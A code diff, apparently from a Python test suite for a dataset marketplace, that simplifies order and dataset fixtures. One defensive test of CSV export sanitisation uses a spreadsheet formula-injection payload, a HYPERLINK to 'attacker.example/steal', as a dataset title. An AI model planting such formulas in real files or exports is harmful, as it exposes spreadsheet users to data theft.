@@ -13,12 +13,9 @@ from accounts.models import Role
 from ground.config import Settings
 from tests.fixtures.client import bearer
 from tests.fixtures.factories import (
-    create_dataset,
     create_listed_dataset,
-    create_plan,
+    create_order,
     create_user,
-    list_dataset,
-    place_order,
 )
 
 
@@ -31,8 +28,7 @@ def test_the_monthly_statement_in_json_and_csv(
     orders = []
     for price in (10_000, 2_999):
         buyer = create_user(session, role=Role.buyer)
-        plan = create_plan(session, listed, provider=provider, price_minor=price)
-        orders.append(place_order(session, buyer, listed, plan))
+        orders.append(create_order(session, buyer, listed, provider, price_minor=price))
     session.commit()
     for i, order in enumerate(orders):
         client.post(
@@ -90,11 +86,8 @@ def test_a_title_written_as_a_formula_stays_text_in_the_csv(
     admin = create_user(session, role=Role.admin)
     buyer = create_user(session, role=Role.buyer)
     formula = '=HYPERLINK("http://attacker.example/steal","点击查看")'
-    draft = create_dataset(session, settings, provider=provider, title=formula)
-    reviewer = create_user(session, role=Role.compliance)
-    listed = list_dataset(session, draft, provider=provider, reviewer=reviewer)
-    plan = create_plan(session, listed, provider=provider, price_minor=1_000)
-    order = place_order(session, buyer, listed, plan)
+    listed = create_listed_dataset(session, settings, provider=provider, title=formula)
+    order = create_order(session, buyer, listed, provider, price_minor=1_000)
     session.commit()
     client.post(
         f"/api/v1/orders/{order.id}/bank-transfers",
